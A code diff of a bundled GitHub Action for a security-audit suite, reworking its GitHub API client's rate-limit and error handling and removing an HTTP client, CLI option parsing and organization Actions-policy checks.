     const { getOctokit } = await Promise.all(/* import() */[__nccwpck_require__.e(119), __nccwpck_require__.e(282), __nccwpck_require__.e(351)]).then(__nccwpck_require__.bind(__nccwpck_require__, 1351));
     const { defaults } = await Promise.all(/* import() */[__nccwpck_require__.e(119), __nccwpck_require__.e(282)]).then(__nccwpck_require__.bind(__nccwpck_require__, 8282));
-    const stats = { requests: 0 };
+    const stats = { requests: 0, waitedSeconds: 0 };
     const baseFetch = (defaults.request?.fetch ?? fetch);
     const timeoutMs = opts.timeoutMs ?? 30_000;
     const maxWait = opts.maxRateLimitWaitSeconds ?? 120;
+    const budget = opts.maxTotalWaitSeconds ?? 300;
     const log = opts.log ?? (() => undefined);
     const countingFetch = async (url, init) => {
         stats.requests++;
@@ -18027,17 +26924,36 @@ async function createGitHubClient(opts) {
             throw e;
         }
     };
+    // Why a rate-limited request was given up, by its request options (the same object every hook sees).
+    const gaveUp = new WeakMap();
     const limitHandler = (kind) => (retryAfter, options, _o, retryCount) => {
-        const ok = retryCount < 3 && retryAfter <= maxWait;
-        log(`GitHub ${kind} rate limit on ${options.method} ${options.url}: ${ok ? `retrying in ${retryAfter}s` : 'giving up'}`);
-        return ok;
+        const asked = `GitHub asked to wait ${retryAfter} s (${kind} rate limit)`;
+        const why = retryCount >= 3
+            ? `${asked} a fourth time; gave up`
+            : retryAfter > maxWait
+                ? `${asked}; gave up after the ${maxWait} s cap`
+                : stats.waitedSeconds + retryAfter > budget
+                    ? `${asked}; gave up, ${Math.round(stats.waitedSeconds)} s of the ${budget} s budget for waits already spent`
+                    : undefined;
+        log(`${asked} on ${options.method} ${options.url}: ${why ? 'giving up' : 'waiting'}`);
+        if (why)
+            gaveUp.set(options, why);
+        else
+            stats.waitedSeconds += retryAfter;
+        return !why;
     };
     const rest = getOctokit(opts.token, {
         baseUrl: opts.apiUrl ?? 'https://api.github.com',
         userAgent: opts.userAgent ?? 'security-actions',
         // Not request.retries: the retry plugin would then retry every error, 4xx included.
         request: { fetch: countingFetch },
-        retry: { retries: opts.retries ?? 3, retryAfterBaseValue: opts.retryBaseMs ?? 1000 },
+        // 429 is the throttling plugin's, which waits what GitHub asks (within the cap); the retry
+        // plugin would retry it at once, against GitHub's Retry-After.
+        retry: {
+            retries: opts.retries ?? 3,
+            retryAfterBaseValue: opts.retryBaseMs ?? 1000,
+            doNotRetry: [400, 401, 403, 404, 410, 422, 429, 451]
+        },
         throttle: {
             onRateLimit: limitHandler('primary'),
             onSecondaryRateLimit: limitHandler('secondary'),
@@ -18046,6 +26962,10 @@ async function createGitHubClient(opts) {
         },
         log: { debug: () => undefined, info: () => undefined, warn: log, error: log }
     }, throttling, retry);
+    // Outermost (after the plugins' retries): the error a caller sees says what happened in words.
+    rest.hook.error('request', (error, options) => {
+        throw reworded(error, gaveUp.get(options));
+    });
     const graphqlUrl = opts.graphqlUrl ?? apiUrlsFromEnv({ GITHUB_API_URL: opts.apiUrl }).graphqlUrl;
     // GraphQL at the configured endpoint (an absolute URL overrides the REST base).
     const gql = rest.graphql.defaults({ url: graphqlUrl });
@@ -18054,14 +26974,47 @@ async function createGitHubClient(opts) {
     return { rest, graphql, stats };
 }
 /**
- * Why an API call failed, worded as the reason of a "not checked" entry.
- * `permission` names what the token would need (e.g. "administration: read").
+ * An Octokit error with its message as a sentence: GitHub's own API message
+ * (its JSON `message`), or what happened instead: a rate-limit wait given up,
+ * an answer that was not GitHub's JSON (an HTML error page is never echoed),
+ * no answer at all. The error object is kept (status, headers) for callers.
  */
+function reworded(error, gaveUp) {
+    const err = error;
+    if (!err || typeof err !== 'object' || !('status' in err))
+        return error;
+    const data = err.response?.data;
+    let message;
+    if (gaveUp) {
+        message = gaveUp;
+    }
+    else if (!err.response) {
+        message = `no answer from GitHub (${networkReason(err.cause ?? error, 0)})`;
+    }
+    else if (data && typeof data === 'object' && typeof data.message === 'string') {
+        message = data.message.split('\n')[0].slice(0, 300);
+    }
+    else {
+        const page = typeof data === 'string' && /<html|<!doctype/i.test(data);
+        message = `GitHub answered ${err.status} with ${page ? 'an error page' : 'no API error message'}`;
+    }
+    try {
+        err.message = message;
+    }
+    catch {
+        // A frozen error keeps its message; describeApiError still words it by status.
+    }
+    return error;
+}
 /** A primary or secondary rate-limit refusal (403 or 429 saying so), as Octokit rejects it. */
 function isRateLimitError(e) {
     const err = e;
     return (err.status === 403 || err.status === 429) && /rate limit/i.test((err.message ?? '').split('\n')[0]);
 }
+/**
+ * Why an API call failed, worded as the reason of a "not checked" entry.
+ * `permission` names what the token would need (e.g. "administration: read").
+ */
 function describeApiError(e, permission) {
     const err = e;
     const status = err.status;
@@ -18069,7 +27022,7 @@ function describeApiError(e, permission) {
     if (status === 401)
         return 'the token was rejected (401 Bad credentials)';
     if (isRateLimitError(e))
-        return `GitHub rate limit exhausted (${status})`;
+        return /gave up/.test(msg) ? msg : `GitHub rate limit exhausted (${status})`;
     if (status === 403 || (status === 404 && permission)) {
         const accepted = err.response?.headers?.['x-accepted-github-permissions'];
         const need = permission ?? accepted;
@@ -18077,8 +27030,12 @@ function describeApiError(e, permission) {
     }
     if (status === 404)
         return 'not found (404)';
+    if (!err.response && (status === undefined || status === 500))
+        return `GitHub API unreachable: ${msg}`;
     if (status && status >= 500)
         return `GitHub API error ${status}`;
+    if (status)
+        return `GitHub answered ${status}: ${msg}`;
     return `GitHub API unreachable: ${msg}`;
 }
 
@@ -18225,7 +27182,7 @@ function today(now) {
  * Runs an action. Returns the report (for tests); the step's success or
  * failure goes through `runtime.setFailed`.
  */
-async function action_runAction(def, runner) {
+async function runAction(def, runner) {
     // Secrets registered during the run (tokens given to ctx.github) must not
     // reach the runner through any runtime, not only the redacting real one.
     const runtime = redactingRuntime(runner);
@@ -18396,7 +27353,7 @@ function redactDeep(v) {
 ;// CONCATENATED MODULE: ./packages/core/src/runtime.ts
 
 /** The GitHub Actions runner, through @actions/core; everything printed is redacted. */
-async function runtime_actionsRuntime(env = process.env) {
+async function actionsRuntime(env = process.env) {
     const core = await Promise.all(/* import() */[__nccwpck_require__.e(119), __nccwpck_require__.e(421)]).then(__nccwpck_require__.bind(__nccwpck_require__, 6421));
     // Let the runner mask tokens we learn at run time in its own log too.
     onSecretRegistered((s) => core.setSecret(s));
@@ -20735,116 +29692,6 @@ function findTyposquat(name) {
     return undefined;
 }
 
-;// CONCATENATED MODULE: ./packages/core/src/http.ts
-// The suite's JSON-over-HTTP client for services other than GitHub (OSV,
-// PyPI; GitHub goes through Octokit): timeouts, a bounded retry of 429/5xx
-// and network errors, and one error type whose message is the "not checked"
-// reason. A failure here never reads as "clean".
-class ServiceError extends Error {
-    status;
-    name = 'ServiceError';
-    constructor(message, status) {
-        super(message);
-        this.status = status;
-    }
-}
-class HttpClient {
-    service;
-    requests = 0;
-    opts;
-    constructor(service, opts = {}) {
-        this.service = service;
-        this.opts = {
-            timeoutMs: 30_000,
-            retries: 2,
-            backoffMs: 500,
-            maxRetryAfterSeconds: 30,
-            userAgent: 'security-actions',
-            fetch: globalThis.fetch,
-            ...opts
-        };
-    }
-    /**
-     * GET or POST JSON. Statuses in `accept` (besides 2xx) are returned to the
-     * caller (e.g. 404 meaning "no provenance"); anything else throws ServiceError.
-     */
-    async json(url, init = {}) {
-        const res = await this.send(url, init);
-        if (res.status >= 200 && res.status < 300) {
-            const text = res.bytes.toString('utf8');
-            try {
-                return { status: res.status, body: JSON.parse(text) };
-            }
-            catch {
-                throw new ServiceError(`${this.service} returned malformed JSON from ${http_pathOf(url)} (${text.length} bytes)`, res.status);
-            }
-        }
-        return { status: res.status, body: undefined };
-    }
-    /** Downloads bytes (2xx only). */
-    async bytes(url) {
-        const res = await this.send(url, {});
-        if (res.status < 200 || res.status >= 300)
-            throw new ServiceError(`${this.service} answered ${res.status} for ${http_pathOf(url)}`, res.status);
-        return res.bytes;
-    }
-    async send(url, init) {
-        const accept = new Set(init.accept ?? []);
-        for (let attempt = 0;; attempt++) {
-            let status;
-            let wait = this.opts.backoffMs * 2 ** attempt;
-            try {
-                this.requests++;
-                const res = await this.opts.fetch(url, {
-                    method: init.method ?? (init.body === undefined ? 'GET' : 'POST'),
-                    headers: {
-                        'user-agent': this.opts.userAgent,
-                        ...(init.body === undefined ? {} : { 'content-type': 'application/json' }),
-                        ...init.headers
-                    },
-                    body: init.body === undefined ? undefined : JSON.stringify(init.body),
-                    redirect: 'follow',
-                    signal: AbortSignal.timeout(this.opts.timeoutMs)
-                });
-                status = res.status;
-                if ((res.status >= 200 && res.status < 300) || accept.has(res.status)) {
-                    return { status: res.status, bytes: Buffer.from(await res.arrayBuffer()) };
-                }
-                await res.arrayBuffer().catch(() => undefined);
-                const retryAfter = Number(res.headers.get('retry-after'));
-                if (res.status === 429 && retryAfter > this.opts.maxRetryAfterSeconds)
-                    throw new ServiceError(`${this.service} rate limit (429, retry after ${retryAfter}s)`, 429);
-                if (retryAfter >= 0 && res.headers.has('retry-after'))
-                    wait = retryAfter * 1000;
-                if (!(res.status === 429 || res.status >= 500) || attempt >= this.opts.retries) {
-                    throw new ServiceError(res.status === 429
-                        ? `${this.service} rate limit (429)`
-                        : `${this.service} answered ${res.status} for ${http_pathOf(url)}`, res.status);
-                }
-            }
-            catch (e) {
-                if (e instanceof ServiceError)
-                    throw e;
-                const err = e;
-                const why = err.name === 'TimeoutError'
-                    ? `timed out after ${this.opts.timeoutMs} ms`
-                    : `request failed (${err.cause?.code ?? err.message})`;
-                if (attempt >= this.opts.retries)
-                    throw new ServiceError(`${this.service} ${why} at ${http_pathOf(url)}`, status);
-            }
-            await new Promise((r) => setTimeout(r, wait));
-        }
-    }
-}
-function http_pathOf(url) {
-    try {
-        return new URL(url).pathname;
-    }
-    catch {
-        return url;
-    }
-}
-
 // EXTERNAL MODULE: ./node_modules/p-limit/index.js
 var p_limit = __nccwpck_require__(8890);
 var p_limit_default = /*#__PURE__*/__nccwpck_require__.n(p_limit);
@@ -20994,8595 +29841,6 @@ class PyPIClient {
 
 
 
-
-// EXTERNAL MODULE: external "node:util"
-var external_node_util_ = __nccwpck_require__(7975);
-;// CONCATENATED MODULE: ./packages/cli/src/commands/types.ts
-/** Exit statuses, documented in the README and every `--help`. */
-const EXIT = { ok: 0, findings: 1, usage: 2 };
-/** A usage or input error: one line, exit status 2. */
-class UsageError extends Error {
-    name = 'UsageError';
-}
-
-;// CONCATENATED MODULE: ./packages/cli/src/options.ts
-// Flags: the sets commands share, parsing with node:util's parseArgs (plus
-// what it leaves to us: `--switch=true|false`, choices, required flags,
-// one-line messages), and `--help` with aligned columns.
-
-
-
-const FORMATS = ['plain', 'json', 'sarif', 'github'];
-const HELP_OPTION = { help: { type: 'boolean', short: 'h', help: 'show this help' } };
-const REPO_OPTION = {
-    repo: { type: 'string', value: 'PATH', help: 'the checkout to scan (default: the current directory)' }
-};
-/** The options of every command that reports findings. */
-const REPORT_OPTIONS = {
-    config: {
-        type: 'string',
-        value: 'FILE',
-        help: 'config file, relative to the checkout (default: .github/security-actions.yml)'
-    },
-    'fail-on': {
-        type: 'string',
-        value: 'LEVEL',
-        choices: FAIL_ON,
-        help: `exit 1 when a finding at or above LEVEL stands: ${FAIL_ON.join('|')} (default: high)`
-    },
-    format: {
-        type: 'string',
-        value: 'FORMAT',
-        choices: FORMATS,
-        help: 'what stdout gets: plain (default), json (the report), sarif (SARIF 2.1.0), github (workflow annotations)'
-    },
-    sarif: { type: 'string', value: 'FILE', help: 'also write SARIF 2.1.0 to FILE' },
-    json: { type: 'string', value: 'FILE', help: 'also write the JSON report to FILE' },
-    verbose: { type: 'boolean', short: 'v', help: 'print every progress message to stderr' },
-    quiet: { type: 'boolean', short: 'q', help: 'print no progress to stderr' },
-    ...HELP_OPTION
-};
-const EXIT_HELP = 'Exit status: 0 nothing at or above --fail-on; 1 findings (or checks that could not run, where they count) at or above --fail-on; 2 a usage or input error (a bad flag, a missing path, an unreadable config).';
-/**
- * Parses a command's arguments. Boolean flags also take `--no-NAME` and
- * `--NAME=true|false`; anything else that does not fit is a UsageError whose
- * message names the flag.
- */
-function parseOptions(cmd, args, env = {}) {
-    const booleans = Object.entries(cmd.options).filter(([, o]) => o.type === 'boolean');
-    const normalised = args.map((a) => {
-        const m = /^--([a-z0-9-]+)=(.*)$/s.exec(a);
-        if (!m || !booleans.some(([n]) => n === m[1]))
-            return a;
-        if (/^(true|yes|1)$/i.test(m[2]))
-            return `--${m[1]}`;
-        if (/^(false|no|0)$/i.test(m[2]))
-            return `--no-${m[1]}`;
-        throw new UsageError(`--${m[1]} takes true or false; got '${m[2]}'`);
-    });
-    const options = Object.fromEntries(Object.entries(cmd.options).map(([n, o]) => [n, { type: o.type, ...(o.short ? { short: o.short } : {}) }]));
-    const parsed = (() => {
-        try {
-            return (0,external_node_util_.parseArgs)({
-                args: normalised,
-                options,
-                allowPositionals: true,
-                allowNegative: true,
-                strict: true,
-                tokens: true
-            });
-        }
-        catch (e) {
-            throw new UsageError(describeParseError(e, cmd.options));
-        }
-    })();
-    if (!cmd.positionals && parsed.positionals.length) {
-        const at = parsed.tokens.findIndex((t) => t.kind === 'positional');
-        const before = parsed.tokens[at - 1];
-        if (before?.kind === 'option' && cmd.options[before.name]?.type === 'boolean')
-            throw new UsageError(`--${before.name} is a switch and takes no value; got '${parsed.positionals[0]}' (write --${before.name} or --no-${before.name})`);
-        throw new UsageError(`unexpected argument '${parsed.positionals[0]}'`);
-    }
-    const values = { ...parsed.values, _: parsed.positionals };
-    if (values.help)
-        return values;
-    for (const [name, o] of Object.entries(cmd.options)) {
-        const v = values[name];
-        if (typeof v === 'string' && o.choices) {
-            const hit = o.choices.find((c) => c.toLowerCase() === v.toLowerCase());
-            if (!hit)
-                throw new UsageError(`--${name} must be one of ${o.choices.join('|')}; got '${v}'`);
-            values[name] = hit;
-        }
-        if (o.required && (v === undefined || v === '') && !(o.env && env[o.env]))
-            throw new UsageError(`--${name}${o.env ? ` (or ${o.env})` : ''} is required`);
-    }
-    return values;
-}
-function describeParseError(e, options) {
-    const flag = /'(-[^']*)'/.exec(e.message)?.[1] ?? '';
-    switch (e.code) {
-        case 'ERR_PARSE_ARGS_UNKNOWN_OPTION': {
-            const name = flag.replace(/^-+(no-)?/, '').replace(/=.*$/, '');
-            const isString = options[name]?.type === 'string';
-            return isString ? `${flag} is not a switch: give --${name} a value` : `unknown option ${flag}`;
-        }
-        case 'ERR_PARSE_ARGS_INVALID_OPTION_VALUE':
-            return /argument missing/.test(e.message)
-                ? `${flag.replace(/ .*$/, '')} needs a value`
-                : `${flag.replace(/ .*$/, '')} takes no value`;
-        default:
-            return e.message.split('\n')[0];
-    }
-}
-/** `  -h, --help         text`, the text column aligned, long specs on a line of their own. */
-function formatOptions(options, width = 100) {
-    const specs = Object.entries(options).map(([name, o]) => [spec(name, o), o.help]);
-    const column = Math.min(30, Math.max(...specs.map(([s]) => s.length)) + 4);
-    return specs
-        .map(([s, help]) => {
-        const lines = wrap(help, width - column);
-        const first = s.length + 2 <= column - 2
-            ? `${`  ${s}`.padEnd(column)}${lines[0]}`
-            : `  ${s}\n${' '.repeat(column)}${lines[0]}`;
-        return [first, ...lines.slice(1).map((l) => ' '.repeat(column) + l)].join('\n');
-    })
-        .join('\n');
-}
-function spec(name, o) {
-    return `${o.short ? `-${o.short}, ` : '    '}--${name}${o.type === 'string' ? ` ${o.value ?? 'VALUE'}` : ''}`;
-}
-/** Words to lines of at most `width` characters (a longer word gets a line of its own). */
-function wrap(text, width) {
-    const lines = [];
-    let line = '';
-    for (const word of text.split(/\s+/).filter(Boolean)) {
-        if (line && line.length + 1 + word.length > width) {
-            lines.push(line);
-            line = word;
-        }
-        else
-            line = line ? `${line} ${word}` : word;
-    }
-    return [...lines, line];
-}
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/queries.ts
-// The GraphQL queries the audit sends. Repository data comes in batches of
-// aliased `repository(...)` fields so that a failed batch names exactly the
-// repositories it leaves unaudited; nested `first` values are kept small to
-// bound the node count (GitHub refuses more than 500,000 nodes per call).
-/**
- * The repository fields, by the name a GraphQL error path gives them. A field
- * the token cannot read makes GitHub null the whole repository (the
- * connections are non-null), so a failing field is dropped from later queries
- * and reported as not checked instead.
- */
-const REPO_FIELDS = {
-    base: 'name isArchived isFork isPrivate defaultBranchRef { name }',
-    branchProtectionRules: 'branchProtectionRules(first: 30) { nodes { pattern requiresApprovingReviews requiredApprovingReviewCount allowsForcePushes allowsDeletions requiresCommitSignatures } }',
-    rulesets: `rulesets(first: 30, includeParents: true) {
-      nodes {
-        name enforcement target
-        conditions { refName { include exclude } }
-        rules(first: 30) { nodes { type parameters { ... on PullRequestParameters { requiredApprovingReviewCount } } } }
-      }
-    }`,
-    releaseBranches: 'releaseBranches: refs(refPrefix: "refs/heads/", query: "release", first: 20) { nodes { name } }',
-    environments: `environments(first: 10) {
-      nodes {
-        name
-        protectionRules(first: 3) {
-          nodes {
-            type preventSelfReview
-            reviewers(first: 6) { nodes { __typename ... on User { login } ... on Team { slug } } }
-          }
-        }
-      }
-    }`,
-    collaborators: 'collaborators(first: 100) { edges { permission node { login } } }',
-    outside: 'outside: collaborators(affiliation: OUTSIDE, first: 100) { edges { permission node { login } } }',
-    deployKeys: 'deployKeys(first: 20) { nodes { title readOnly createdAt } }',
-    pyproject: 'pyproject: object(expression: "HEAD:pyproject.toml") { ... on Blob { text } }',
-    sec1: 'sec1: object(expression: "HEAD:SECURITY.md") { __typename }',
-    sec2: 'sec2: object(expression: "HEAD:.github/SECURITY.md") { __typename }',
-    sec3: 'sec3: object(expression: "HEAD:docs/SECURITY.md") { __typename }',
-    vulnerabilityAlerts: 'vulnerabilityAlerts: hasVulnerabilityAlertsEnabled',
-    dependabot: 'dependabot: object(expression: "HEAD:.github/dependabot.yml") { ... on Blob { text } }',
-    dependabot2: 'dependabot2: object(expression: "HEAD:.github/dependabot.yaml") { ... on Blob { text } }',
-    // Who committed to the default branch lately: evidence of activity at no extra request.
-    activity: 'activity: defaultBranchRef { target { ... on Commit { history(first: 50, since: $since) { nodes { author { user { login } } committer { user { login } } } } } } }',
-    // A list, not a connection: the workflow files add no rate-limit cost and no request.
-    workflows: 'workflows: object(expression: "HEAD:.github/workflows") { ... on Tree { entries { name type object { ... on Blob { text byteSize isBinary isTruncated } } } } }'
-};
-/** One query for `n` repositories, variables `$org`, `$n0 … $n{n-1}` and (with the activity field) `$since`. */
-function repoBatchQuery(n, omit = new Set()) {
-    const vars = [
-        ...Array.from({ length: n }, (_, i) => `$n${i}: String!`),
-        ...(omit.has('activity') ? [] : ['$since: GitTimestamp!'])
-    ].join(', ');
-    const body = Object.entries(REPO_FIELDS)
-        .filter(([k]) => !omit.has(k))
-        .map(([, f]) => `    ${f}`)
-        .join('\n');
-    const fields = Array.from({ length: n }, (_, i) => `  r${i}: repository(owner: $org, name: $n${i}) {\n${body}\n  }`).join('\n');
-    return `query($org: String!, ${vars}) {\n${fields}\n}`;
-}
-/**
- * Team members, once per organization rather than under every environment
- * reviewer: GitHub's cost formula multiplies nested connections, and members
- * nested under reviewers would cost more than all other repository fields.
- * Two people are enough to decide "at least two reviewers".
- */
-const TEAMS = `query($org: String!, $after: String) {
-  organization(login: $org) {
-    teams(first: 100, after: $after) {
-      pageInfo { hasNextPage endCursor }
-      nodes { slug members(first: 2) { nodes { login } } }
-    }
-  }
-}`;
-const ORG_POLICY = `query($org: String!) {
-  repository(owner: $org, name: ".github") { object(expression: "HEAD:SECURITY.md") { __typename } }
-}`;
-/**
- * The organization audit log (GitHub Enterprise Cloud only): the latest entry
- * of each of `n` people since `$from`, variables `$org` and `$q0 … $q{n-1}`
- * (each `actor:<login> created:>=<date>`).
- */
-function auditLogQuery(n) {
-    const vars = Array.from({ length: n }, (_, i) => `$q${i}: String!`).join(', ');
-    const fields = Array.from({ length: n }, (_, i) => `    a${i}: auditLog(first: 1, query: $q${i}) { nodes { ... on AuditEntry { actorLogin createdAt } } }`).join('\n');
-    return `query($org: String!, ${vars}) {\n  organization(login: $org) {\n${fields}\n  }\n}`;
-}
-/** Contributions of `n` people since `$from`, variables `$from` and `$u0 … $u{n-1}`. */
-function activityQuery(n) {
-    const vars = Array.from({ length: n }, (_, i) => `$u${i}: String!`).join(', ');
-    const fields = Array.from({ length: n }, (_, i) => `  u${i}: user(login: $u${i}) { login contributionsCollection(from: $from, to: $to) { totalCommitContributions totalIssueContributions totalPullRequestContributions totalPullRequestReviewContributions restrictedContributionsCount } }`).join('\n');
-    return `query($from: DateTime!, $to: DateTime!, ${vars}) {\n${fields}\n}`;
-}
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/batch.ts
-// The GraphQL reads of the audit: repositories in batches of aliased
-// `repository(...)` fields (a failed batch names exactly the repositories it
-// leaves unaudited), and the organization-wide answers every repository
-// check shares (teams, the org's SECURITY.md).
-
-function inBatches(items, size) {
-    const out = [];
-    for (let i = 0; i < items.length; i += size)
-        out.push(items.slice(i, i + size));
-    return out;
-}
-/**
- * One batch of repositories. A field the token cannot read is recorded in
- * `omitted` (shared by all batches) and the batch asked again without it.
- * GitHub may name only the first failing field of a repository (a non-null
- * field's error nulls the whole object), so this repeats while new ones
- * appear; every field is dropped at most once per run.
- */
-async function fetchBatch(io, org, batch, omitted, since) {
-    const vars = { org };
-    batch.forEach((n, i) => (vars[`n${i}`] = n));
-    const ask = () => io.graphql(repoBatchQuery(batch.length, new Set(omitted.keys())), omitted.has('activity') ? vars : { ...vars, since });
-    let answer = await ask();
-    for (;;) {
-        const fresh = (answer.errors ?? []).filter((e) => typeof e.path?.[1] === 'string' && REPO_FIELDS[e.path[1]] && !omitted.has(e.path[1]));
-        if (!fresh.length)
-            return answer;
-        for (const e of fresh)
-            omitted.set(e.path[1], e);
-        answer = await ask();
-    }
-}
-/** The `i`th repository of a batch's answer, or why it is missing; `failed` gives the error of a field it lacks. */
-function repositoryOf(answer, i, omitted) {
-    const repo = answer.data?.[`r${i}`];
-    const errs = (answer.errors ?? []).filter((e) => e.path?.[0] === `r${i}`);
-    if (!repo)
-        return { missing: errs[0]?.message ?? (answer.errors?.[0]?.message || 'missing from the answer') };
-    return { repo, failed: (field) => omitted.get(field) ?? errs.find((e) => e.path?.[1] === field) };
-}
-/** Whether the organization's `.github` repository has a SECURITY.md (GitHub shows it on every repository). */
-async function orgSecurityPolicy(io, org) {
-    try {
-        const { data } = await io.graphql(ORG_POLICY, { org });
-        return !!data?.repository?.object;
-    }
-    catch {
-        return undefined;
-    }
-}
-/** Team slug → up to two member logins; undefined when the teams were not readable. */
-async function teamMembers(io, org) {
-    const out = new Map();
-    try {
-        let after = null;
-        do {
-            const { data } = await io.graphql(TEAMS, { org, after });
-            const conn = data?.organization?.teams;
-            if (!conn)
-                return undefined;
-            for (const t of conn.nodes)
-                out.set(t.slug, t.members.nodes.map((m) => m.login));
-            after = conn.pageInfo.hasNextPage ? conn.pageInfo.endCursor : null;
-        } while (after);
-        return out;
-    }
-    catch {
-        return undefined;
-    }
-}
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/checks/actions-policy.ts
-// The organization's Actions policy: the default GITHUB_TOKEN, whether
-// workflows may approve pull requests, which actions may run, SHA pinning, and
-// workflows from fork pull requests (approval, and what they get on private
-// repositories).
-
-const RULES = defineRules({
-    actionsTokenWrite: {
-        id: 'org/actions-token-write',
-        title: 'Workflows get a read-write GITHUB_TOKEN by default',
-        severity: 'high',
-        why: 'Every workflow without a `permissions:` block can push code, create releases and edit issues; one injected step is enough.',
-        remediation: 'Organization settings → Actions → General → Workflow permissions: "Read repository contents and packages permissions"; grant write per job.',
-        spec: ['S8-6']
-    },
-    actionsApprovePrs: {
-        id: 'org/actions-can-approve-prs',
-        title: 'GitHub Actions may create and approve pull requests',
-        severity: 'medium',
-        why: 'A workflow token that can approve pull requests satisfies a required review without a human.',
-        remediation: 'Untick "Allow GitHub Actions to create and approve pull requests" in the organization Actions settings.',
-        spec: ['S8-6']
-    },
-    actionsAllAllowed: {
-        id: 'org/actions-all-allowed',
-        title: 'Any action from any owner may run',
-        severity: 'low',
-        why: "Without an allow list, a typo or a compromised third-party action runs with the workflow's token and secrets.",
-        remediation: 'Allow GitHub-owned, verified-creator and a listed set of actions (Actions → General → Policies).',
-        spec: ['S8-7']
-    },
-    actionsShaPinning: {
-        id: 'org/actions-sha-pinning-not-required',
-        title: 'Actions are not required to be pinned to a full commit SHA',
-        severity: 'low',
-        why: 'A tag can be moved to malicious code; only a full SHA pins what runs.',
-        remediation: 'Tick "Require actions to be pinned to a full-length commit SHA" in the organization Actions policy (and pin existing workflows first).',
-        spec: ['S8-9']
-    },
-    forkPrApproval: {
-        id: 'org/fork-pr-approval-weak',
-        title: 'Workflows from fork pull requests run without approval for most outside contributors',
-        severity: 'medium',
-        why: 'With "first-time contributors new to GitHub" only brand-new accounts need approval; anyone with an older account can open a pull request whose workflow runs at once, which is how cache poisoning and self-hosted runner attacks start.',
-        remediation: 'Organization settings → Actions → General → "Approval for running fork pull request workflows from contributors": require approval for all external contributors (or at least first-time contributors).',
-        spec: ['S8-16']
-    },
-    forkPrPrivate: {
-        id: 'org/fork-pr-private-repos',
-        title: 'Fork pull requests on private repositories get secrets or a write token',
-        severity: 'high',
-        why: 'A workflow started by a fork pull request runs code its author wrote; with secrets or a write token it can read the secrets or push to the repository.',
-        remediation: 'Organization settings → Actions → General → "Fork pull request workflows in private repositories": untick "Send write tokens" and "Send secrets and variables", and tick "Require approval for fork pull request workflows".',
-        spec: ['S8-6', 'S8-16']
-    }
-});
-const NEED = 'organization administration: read';
-/** Why an endpoint GitHub added lately could not be read. */
-const newerEndpoint = (e) => e.status === 404
-    ? 'not available on this GitHub (or needs organization administration: read)'
-    : describeApiError(e, NEED);
-const actionsPolicy = {
-    id: 'actions-policy',
-    scope: 'org',
-    rules: rulesOf(RULES),
-    async run({ io, org, add, skip }) {
-        try {
-            const policy = (await io.request('GET /orgs/{org}/actions/permissions', { org })).data;
-            if (policy.allowed_actions === 'all')
-                add(RULES.actionsAllAllowed, undefined, { message: `${org} lets workflows use any action from any owner.` });
-            if (policy.sha_pinning_required === false)
-                add(RULES.actionsShaPinning, undefined, {
-                    message: `${org} does not require actions pinned to a full commit SHA.`
-                });
-            else if (policy.sha_pinning_required === undefined)
-                skip(RULES.actionsShaPinning.id, 'not checked: GitHub did not return sha_pinning_required', org);
-        }
-        catch (e) {
-            for (const r of [RULES.actionsAllAllowed, RULES.actionsShaPinning])
-                skip(r.id, `not checked: ${describeApiError(e, NEED)}`, org);
-        }
-        try {
-            const wf = (await io.request('GET /orgs/{org}/actions/permissions/workflow', { org })).data;
-            if (wf.default_workflow_permissions === 'write')
-                add(RULES.actionsTokenWrite, undefined, {
-                    message: `${org} gives workflows a read-write GITHUB_TOKEN by default.`
-                });
-            if (wf.can_approve_pull_request_reviews)
-                add(RULES.actionsApprovePrs, undefined, {
-                    message: `${org} lets GitHub Actions create and approve pull requests.`
-                });
-        }
-        catch (e) {
-            for (const r of [RULES.actionsTokenWrite, RULES.actionsApprovePrs])
-                skip(r.id, `not checked: ${describeApiError(e, NEED)}`, org);
-        }
-        try {
-            const { approval_policy: policy } = (await io.request('GET /orgs/{org}/actions/permissions/fork-pr-contributor-approval', { org })).data;
-            if (policy === 'first_time_contributors_new_to_github') {
-                add(RULES.forkPrApproval, undefined, {
-                    message: `${org} requires approval of fork pull request workflows only for first-time contributors who are new to GitHub.`,
-                    properties: { approval_policy: policy }
-                });
-            }
-            else if (policy !== 'first_time_contributors' && policy !== 'all_external_contributors') {
-                skip(RULES.forkPrApproval.id, `not checked: GitHub returned an unknown approval_policy (${String(policy)})`, org);
-            }
-        }
-        catch (e) {
-            // GitHub Enterprise Server before 3.19 has no such endpoint.
-            skip(RULES.forkPrApproval.id, `not checked: ${newerEndpoint(e)}`, org);
-        }
-        try {
-            const p = (await io.request('GET /orgs/{org}/actions/permissions/fork-pr-workflows-private-repos', { org }))
-                .data;
-            if (p.run_workflows_from_fork_pull_requests) {
-                const given = [
-                    p.send_secrets_and_variables && 'secrets and variables',
-                    p.send_write_tokens_to_workflows && 'a write token'
-                ].filter(Boolean);
-                if (given.length) {
-                    add(RULES.forkPrPrivate, undefined, {
-                        message: `${org} sends ${given.join(' and ')} to workflows of fork pull requests on private repositories.`,
-                        key: 'secrets',
-                        properties: p
-                    });
-                }
-                else if (!p.require_approval_for_fork_pr_workflows) {
-                    add(RULES.forkPrPrivate, undefined, {
-                        severity: 'medium',
-                        message: `${org} runs workflows of fork pull requests on private repositories without approval.`,
-                        key: 'approval',
-                        properties: p
-                    });
-                }
-            }
-        }
-        catch (e) {
-            skip(RULES.forkPrPrivate.id, `not checked: ${newerEndpoint(e)}`, org);
-        }
-    }
-};
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/rest.ts
-/**
- * Every item of a paginated REST list; `key` names the array in wrapped
- * answers (`{ total_count, installations }`). Items are pushed into `out` as
- * pages arrive, so a caller keeps what was listed before a failure.
- */
-async function listAll(io, route, params, key, out = []) {
-    for (let page = 1;; page++) {
-        const data = (await io.request(route, { ...params, per_page: 100, page })).data;
-        const items = key ? data[key] : data;
-        if (!Array.isArray(items))
-            throw new Error(`GitHub answered ${route} without ${key ?? 'a list'} (truncated answer?)`);
-        out.push(...items);
-        if (items.length < 100)
-            return out;
-    }
-}
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/checks/apps.ts
-// GitHub Apps installed on every repository with write access to code,
-// workflows, settings or secrets; every App is listed in a note, the SPEC 6
-// inventory.
-
-
-const apps_RULES = defineRules({
-    appBroadWrite: {
-        id: 'org/app-broad-write',
-        title: 'GitHub App installed on every repository with write access to code or settings',
-        // Low when contents is the only write it has.
-        severity: 'medium',
